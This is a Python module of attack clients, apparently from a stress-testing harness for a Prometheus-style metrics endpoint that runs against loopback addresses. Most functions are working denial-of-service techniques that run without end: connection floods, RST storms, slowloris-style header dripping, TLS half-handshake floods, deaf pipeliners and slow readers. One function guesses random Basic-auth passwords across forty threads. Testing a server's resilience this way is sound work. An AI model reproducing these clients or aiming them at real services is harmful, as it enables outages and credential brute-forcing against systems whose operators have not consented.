"""Clients that want to keep others from scraping. Each runs in a process of its own until it is ended, as fast as it can."""
import base64
import contextlib
import itertools
import random
import select
import socket
import ssl
import struct
import threading
import time

from target import IP_BIND_ADDRESS_NO_PORT, UNVERIFIED

RESET = struct.pack("ii", 1, 0)  # SO_LINGER: close() resets
FORMATS = ["text/plain;version=0.0.4", "text/plain;version=1.0.0", "application/openmetrics-text;version=1.0.0",
           "application/vnd.google.protobuf;proto=io.prometheus.client.MetricFamily;encoding=delimited"]
ESCAPINGS = ["underscores", "dots", "values", "allow-utf-8"]


class Victim:
    """What an attacker knows of an endpoint, which can be given to another process."""

    def __init__(self, target, sources):
        self.place = (target.address, target.port)
        self.tls = target.tls is not None
        self.authorization = target.authorization
        self.sources = itertools.cycle(sources)

    def connect(self, *, tls=None, receive_buffer=None, timeout=5.0):
        client = socket.socket()
        client.settimeout(timeout)
        if receive_buffer:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        client.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        client.bind((next(self.sources), 0))
        client.connect(self.place)
        return UNVERIFIED.wrap_socket(client) if (self.tls if tls is None else tls) else client

    def request(self, target="/metrics", *headers, authorization=None):
        lines = [f"GET {target} HTTP/1.1", "Host: localhost", *headers]
        if authorization or self.authorization:
            lines.append("Authorization: " + (authorization or self.authorization))
        return ("\r\n".join(lines) + "\r\n\r\n").encode()


    def is_served(self, page="/-/ready"):
        """From the next address."""
        with contextlib.suppress(OSError), self.connect() as client:
            client.sendall(self.request(page))
            return client.recv(64).startswith(b"HTTP/1.1 200")
        return False


def for_ever(step):
    while True:
        with contextlib.suppress(OSError):
            step()


def hold(made, limit):
    """Keeps the newest ones."""
    while len(made) > limit:
        made.pop(0).close()


def connection_flood(victim):
    """Connects, says nothing, and holds hundreds of connections."""
    held = []

    def step():
        held.append(victim.connect(tls=False))
        hold(held, 400)
    for_ever(step)


def reset_storm(victim):
    def step():
        client = victim.connect(tls=False)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        client.close()
    for_ever(step)


def header_drip(victim):
    """Three hundred clients, each a byte of its header now and then."""
    held = {}

    def step():
        while len(held) < 300:
            client = victim.connect(tls=False)
            client.setblocking(False)
            held[client] = iter(itertools.chain(victim.request()[:-2], itertools.cycle(b"X-a: b\r\n")))
        for client, rest in list(held.items()):
            try:
                client.send(bytes([next(rest)]))
            except OSError:
                client.close()
                del held[client]
        time.sleep(0.05)
    for_ever(step)


def half_handshakes(victim):
    """The first message of a handshake, and no more."""
    held = []
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        UNVERIFIED.wrap_bio(incoming, outgoing).do_handshake()
    hello = outgoing.read()

    def step():
        client = victim.connect(tls=False)
        client.sendall(hello)
        held.append(client)
        hold(held, 200)
    for_ever(step)


def full_handshakes(victim):
    for_ever(lambda: victim.connect().close())


def silent_handshakes(victim):
    """Whole handshakes, and no more."""
    held = []

    def step():
        held.append(victim.connect())
        hold(held, 200)
    for_ever(step)


def requests_without_login(victim):
    """Asks and asks on one connection, in bunches."""
    data = victim.request(authorization="Basic") * 20

    def step():
        with victim.connect() as client:
            while True:
                client.sendall(data)
                if not client.recv(1 << 16):
                    return
    for_ever(step)


def bad_logins(victim):
    def guess():
        data = victim.request(authorization="Basic " + base64.b64encode(b"prometheus:%x" % random.getrandbits(64)).decode())
        with victim.connect() as client:
            while True:
                client.sendall(data)
                if not client.recv(1 << 16):
                    return
    for _ in range(40):
        threading.Thread(target=for_ever, args=(guess,), daemon=True).start()
    time.sleep(1 << 20)


def deaf_pipeliners(victim):
    """Ask many times, and take no byte of an answer."""
    held = []
    data = victim.request() * 50

    def step():
        client = victim.connect(receive_buffer=4096)
        held.append(client)
        client.settimeout(0.05)
        client.sendall(data)
        hold(held, 40)
    for_ever(step)


def slow_readers(victim):
    """Ask once, and take their answer byte by byte."""
    held = []

    def step():
        if len(held) < 60:
            client = victim.connect(receive_buffer=4096)
            client.sendall(victim.request("/metrics", "Accept-Encoding: identity"))
            client.settimeout(0)
            held.append(client)
            return
        for client in list(held):
            try:
                if not client.recv(1):
                    raise ConnectionResetError
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            except OSError:
                client.close()
                held.remove(client)
        time.sleep(0.05)
    for_ever(step)


def polite_pollers(victim):
    """Well-behaved, in all formats, and each with families of its own; on connections that are kept."""
    wanted = [victim.request(f"/metrics{query}", f"Accept: {kind};escaping={escaping}", "Accept-Encoding: " + encoding)
              for kind in FORMATS for escaping in ESCAPINGS for encoding in ("gzip", "zstd", "identity")
              for query in ("", *(f"?name[]=campaign_series_total&name[]=n{i}" for i in range(4)))]
    random.shuffle(wanted)
    poll_with(victim, wanted)


def live_pollers(victim):
    poll_with(victim, [victim.request(target, "Accept-Encoding: " + encoding) for target in ("/data", "/", "/data?x=1") for encoding in ("gzip", "identity")])


def poll_with(victim, requests, clients=24):
    kept = {}

    def step():
        while len(kept) < clients:
            client = victim.connect()
            client.sendall(random.choice(requests))
            client.settimeout(0)
            kept[client] = b""
        readable, _, _ = select.select(list(kept), [], [], 0.1)
        for client in readable:
            try:
                piece = client.recv(1 << 18)
                if not piece:
                    raise ConnectionResetError
                kept[client] = kept[client][-64:] + piece if b"HTTP/1.1 " not in piece else piece
                if len(piece) < 1 << 14:  # about its end
                    client.send(random.choice(requests))
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except OSError:
                client.close()
                del kept[client]
    for_ever(step)


def known_flood(victim):
    """Addresses that are served, and then say nothing, ask without taking the answer, or come and go."""
    held = []
    turns = itertools.cycle(range(8))

    def step():
        turn = next(turns)
        if turn == 0:
            victim.is_served()
            return
        client = victim.connect()
        if turn % 2:
            client.sendall(victim.request())
        held.append(client)
        hold(held, 200 if turn != 7 else 190)
    for_ever(step)


def flushed_table(victim):
    """More addresses than the endpoint remembers are served, again and again, beside those that say nothing."""
    every = [f"127.1.{i}.{j}" for i in range(6) for j in range(1, 201)]
    random.shuffle(every)
    victim.sources = itertools.cycle(every)
    threading.Thread(target=for_ever, args=(lambda: victim.is_served() or time.sleep(0.001),), daemon=True).start()
    connection_flood(victim)


def slow_callback(victim, clients=36):
    """Clients of as many addresses that ask again as soon as they are answered; the registry takes long."""
    poll_with(victim, [victim.request("/metrics?name[]=campaign_callback")], clients)


def slow_callback_crowd(victim):
    """More of them, in two such processes, than may wait together."""
    slow_callback(victim, clients=100)


def many_answers(victim):
    """Clients of 60 addresses, each of which asks for an answer of its own, again and again."""
    poll_with(victim, [victim.request(f"/metrics?name[]=campaign_series_total&name[]=n{i}") for i in range(200)], clients=60)


def a_thousand(victim, count=500):
    """Half of a thousand connections, opened again when they are closed: some say nothing, some drip a header, some don't read their answer."""
    held = {}

    def step():
        for _ in range(min(50, count - len(held))):
            client = victim.connect(receive_buffer=4096, tls=False)
            client.settimeout(0)
            kind = len(held) % 3
            if kind == 2:
                client.send(victim.request("/metrics", "Accept-Encoding: identity"))
            held[client] = iter(itertools.chain(victim.request()[:-2], itertools.cycle(b"X-a: b\r\n"))) if kind == 1 else None
        closed = set(select.select(list(held), [], [], 0)[0]) if len(held) < 1_000 else set()
        for client, rest in list(held.items()):
            try:
                if client in closed and not client.recv(1):
                    raise ConnectionResetError
                if rest:
                    client.send(bytes([next(rest)]))
            except BlockingIOError:
                continue
            except OSError:
                client.close()
                del held[client]
        time.sleep(0.2)
    for_ever(step)
